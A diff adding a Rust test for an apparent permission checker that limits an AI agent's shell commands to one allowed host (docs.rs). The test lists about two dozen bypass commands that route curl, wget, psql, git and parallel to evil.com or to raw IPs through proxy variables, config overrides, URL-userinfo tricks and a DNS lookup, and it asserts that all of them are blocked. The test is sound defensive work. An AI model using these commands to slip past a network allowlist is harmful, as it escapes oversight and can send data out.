@@ -199,3 +199,42 @@ fn what_a_stranger_found_stays_found() {
         passed.join("\n")
     );
 }
+
+/// Ways to another host than the one that stands in the address.
+#[test]
+fn what_leads_elsewhere_is_not_allowed_to_who_may_reach_one_host() {
+    let judge = Judge::new(
+        "agents: { a: { tools: { allowed: [Bash, Write] }, bounds: { write: [., /tmp], hosts: [docs.rs] } } }",
+    );
+    assert_eq!(judge.run("a", "curl https://docs.rs/x"), Verdict::Allow);
+    let passed: Vec<_> = [
+        "http_proxy=http://evil.com curl https://docs.rs",
+        "Https_Proxy=evil.com wget https://docs.rs",
+        "ftp_proxy=evil.com curl ftp://docs.rs/x",
+        "export ALL_PROXY=x; curl https://docs.rs",
+        "CURL_HOME=. curl https://docs.rs",
+        "WGETRC=x wget https://docs.rs",
+        "HOSTALIASES=x curl https://docs.rs",
+        "PGHOSTADDR=1.2.3.4 psql -h docs.rs -c 'select 1'",
+        "PGSERVICE=x psql -h docs.rs -c 'select 1'",
+        "psql -h docs.rs -d postgres://evil.com/db -c 'select 1'",
+        "psql -h docs.rs 'hostaddr=1.2.3.4' -c 'select 1'",
+        "curl -K x https://docs.rs",
+        "curl --url @x https://docs.rs",
+        "wget -e https_proxy=evil.com https://docs.rs",
+        "wget -i f https://docs.rs",
+        "wget -i http://evil.com/x https://docs.rs",
+        "git -c http.curloptResolve=docs.rs:443:1.2.3.4 ls-remote https://docs.rs/x",
+        "git -c http.proxy=evil.com ls-remote https://docs.rs/x",
+        "getent hosts secret.evil.com",
+        "curl 'https://docs.rs\\@evil.com/'",
+        "wget 'https://docs.rs\\@evil.com/'",
+        "git ls-remote 'https://docs.rs\\@evil.com/x'",
+        "X='x evil.com'; curl docs.rs/$X",
+        "parallel -S evil.com echo ::: a",
+    ]
+    .into_iter()
+    .filter(|command| judge.run("a", command) == Verdict::Allow)
+    .collect();
+    assert!(passed.is_empty(), "{passed:#?}");
+}
